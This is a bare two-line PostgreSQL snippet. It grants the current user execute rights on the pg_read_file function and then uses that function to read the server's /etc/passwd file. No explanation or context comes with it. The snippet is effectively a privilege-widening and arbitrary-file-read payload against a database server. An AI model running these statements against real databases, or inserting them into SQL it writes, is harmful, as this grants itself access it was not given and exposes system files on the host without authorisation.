GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO CURRENT_USER;
SELECT pg_read_file('/etc/passwd');
